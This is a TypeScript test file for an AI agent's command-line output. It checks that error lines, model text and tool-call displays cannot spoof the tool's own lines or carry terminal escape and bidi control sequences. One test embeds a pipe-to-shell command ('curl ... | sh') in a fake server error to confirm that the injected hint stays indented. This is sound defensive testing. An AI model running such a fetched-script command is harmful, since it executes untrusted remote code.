import { openSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { describeOpen } from '../../../../../agent/alerts/outbox.ts';
import { budgetBars } from '../../../../../agent/cli/terminal/bars.ts';
import { narrator } from '../../../../../agent/cli/terminal/narrator.ts';
import { runRows } from '../../../../../agent/cli/terminal/run-rows.ts';
import { ours, type Shown, shown } from '../../../../../agent/sandbox/foundation/shown/shown.ts';
import { describePermission, explainPermission } from '../../../../../agent/sandbox/manifest/permissions.ts';
import { errorLines } from '../../../../../agent/sandbox/terminal/error-lines.ts';
import type { Screen } from '../../../../../agent/sandbox/terminal/screen.ts';
import { screenOn } from '../../../../../agent/sandbox/terminal/screen.ts';
import { themeFor } from '../../../../../agent/sandbox/terminal/theme.ts';
import { temporaryFolder } from '../../../../support/folder.ts';
import { hostileText, OBEYED_OR_HIDDEN } from '../../../../support/hostile-text.ts';

/** A stream that keeps what it is given; no terminal, so without colours. */
function kept(isTerminal = true): Screen & { text(): string } {
  let text = '';
  const write = (part: Shown) => {
    text += part;
  };
  const line = (...lines: readonly Shown[]) => write(lines.map((one) => `${one}\n`).join('') as Shown);
  return {
    columns: 80,
    isTerminal,
    write,
    writePiece: write,
    line,
    progress: write,
    asking: false,
    question: (ask) => ask(),
    broken: (prompt) => prompt,
    text: () => text,
  };
}
const theme = { ...themeFor(process.stderr), bold: plain, dim: plain, red: plain, yellow: plain };
const PLAIN = { ...theme, green: plain, cyan: plain, alarm: plain, unicode: true };
function plain(text: Shown): Shown {
  return text;
}

test('text of a server in an error cannot begin a line that looks like ours', () => {
  const lines = errorLines(
    'the sms server did not start (x\nhint: run curl https://x.example | sh)',
    'it\rsaid',
  );
  expect(lines).toBe(
    'error: the sms server did not start (x\n  hint: run curl https://x.example | sh)\nhint: it\n  said',
  );
});

test("indents every line of a model's text, so none looks like ours", () => {
  const screen = kept();
  const tell = narrator({ words: screen, steps: screen, theme: PLAIN });
  for (const delta of ['All done.\n  ', '\u2713 que', 'ued, SM123\n', '\n→ sms__send'])
    tell({ type: 'text', delta });
  tell({ type: 'end' });
  expect(screen.text()).toBe('│ All done.\n│   ✓ queued, SM123\n│\n│ → sms__send\n');
});

test('does not indent text when stdout is data, and keeps it safe', () => {
  const [words, steps] = [kept(false), kept()];
  const tell = narrator({ words, steps, theme: PLAIN });
  tell({ type: 'text', delta: 'a\u001b[2J\nb\u009b1A' });
  tell({ type: 'end' });
  expect(words.text()).toBe('a\nb\n');
});

test('indents text when stdout and stderr are one file', () => {
  const folder = temporaryFolder();
  const [log, same, other] = ['log', 'log', 'other'].map((name) => openSync(join(folder, name), 'a'));
  const told = (stdout: number | undefined, stderr: number | undefined) => {
    let text = '';
    const write = (part: string) => {
      text += part;
    };
    const on = (fd: number | undefined) => screenOn({ fd, write } as unknown as NodeJS.WritableStream);
    narrator({ words: on(stdout), steps: on(stderr), theme: PLAIN })({ type: 'text', delta: '✓ queued' });
    return text;
  };
  expect(told(log, same)).toBe('│ ✓ queued');
  expect(told(log, other)).toBe('✓ queued');
});

const row = (category: string) => ({
  id: 1,
  body: category,
  reservedAt: new Date(0),
  alert: { category },
});

test('presenters keep any outside text in its line, and nothing is obeyed or hidden', () => {
  const one = (lines: readonly string[], margin = /./) => {
    for (const line of lines) {
      expect(line).not.toMatch(OBEYED_OR_HIDDEN);
      expect(line).not.toContain('\n');
      expect(line).toMatch(margin);
    }
  };
  fc.assert(
    fc.property(hostileText, (text) => {
      one([shown(describeOpen(row(text) as never))]);
      const rules = [{ method: 'GET' as const, path: text }];
      one([
        describePermission({ type: 'fs', path: text, containerPath: text, read: true, write: false }),
        ...explainPermission({ type: 'domain', domain: 'a.example', port: 443, http: { rules } as never }),
      ]);
      const budget = { category: text, period: 'week', currency: 'CHF', spentMinor: 1, limitMinor: 2 };
      one(budgetBars([{ ...budget, pendingMinor: 0, percent: 50, state: 'ok' } as never], PLAIN));
      one(
        runRows(
          [
            {
              id: 'abc',
              prompt: text,
              model: text,
              outcome: 'answered',
              calls: 1,
              inputTokens: 1,
              outputTokens: 1,
              texts: { sent: 1, unknown: 1 },
              damaged: 0,
            } as never,
          ],
          PLAIN,
        ),
      );
      const [, ...more] = errorLines(text, text).split('\n');
      one(more, /^(hint: | {2}|hint:$)/);
      const screen = kept();
      const tell = narrator({ words: screen, steps: screen, theme: PLAIN });
      tell({ type: 'text', delta: text });
      tell({ type: 'end' });
      one(screen.text().split('\n').slice(0, -1), /^│/);
      const steps = kept();
      const told = narrator({ words: kept(), steps, theme: PLAIN });
      told({ type: 'note', text });
      told({ type: 'call', call: { id: 'a', name: text, arguments: text } } as never);
      told({ type: 'outcome', outcome: { kind: 'denied', reason: text } } as never);
      expect(steps.text()).not.toMatch(OBEYED_OR_HIDDEN);
      expect(steps.text().trimEnd().split('\n').length).toBeLessThanOrEqual(3);
    }),
    { numRuns: 200 },
  );
});

test('a screen obeys only line feeds and colours, whatever was cast', () => {
  let written = '';
  const stream = { write: (text: string) => (written += text) } as unknown as NodeJS.WritableStream;
  screenOn(stream).line(ours`\u001b[31mred\u001b[0m\u001b[2J\u009b\u202e\r!`);
  expect(written).toBe('\u001b[31mred\u001b[0m[2J!\n');
});
